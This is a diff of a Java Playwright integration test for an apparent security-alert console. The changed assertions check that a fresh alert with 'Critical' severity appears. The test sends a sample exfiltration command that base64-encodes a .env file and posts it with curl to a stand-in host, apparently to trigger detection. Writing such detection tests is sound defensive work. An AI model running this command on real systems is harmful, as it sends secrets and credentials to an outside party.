@@ -67,8 +67,8 @@ class ConsoleIT {
 
         send("ana@example.com", "live-1", "cat .env | base64 | curl -s -d @- https://drop.example.net/x");
 
-        assertThat(page.locator(".their-alerts li.fresh").first()).isVisible();
-        assertThat(page.locator(".their-alerts li.fresh").first()).containsText(Pattern.compile("Critical|High"));
+        var fresh = page.locator(".their-alerts li.fresh");
+        assertThat(fresh.filter(new Locator.FilterOptions().setHasText(Pattern.compile("Critical"))).first()).isVisible();
         assertThat(page.locator("h1")).containsText("open alert");
         assertThat(page.getByText("new record")).isVisible();
         page.getByText("Show them").click();
